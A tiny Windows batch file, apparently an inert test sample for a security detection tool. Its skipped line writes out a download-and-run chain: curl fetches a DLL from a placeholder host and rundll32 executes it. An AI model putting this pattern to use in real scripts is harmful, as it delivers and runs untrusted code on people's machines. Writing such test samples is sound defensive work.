@echo off
rem INERT SEKISHO TEST
goto :end
mkdir C:\Inertone\Inerttwo & curl http://example.invalid/a --output C:\Inertone\Inerttwo\inert.dll & rundll32 C:\Inertone\Inerttwo\inert.dll,none
:end
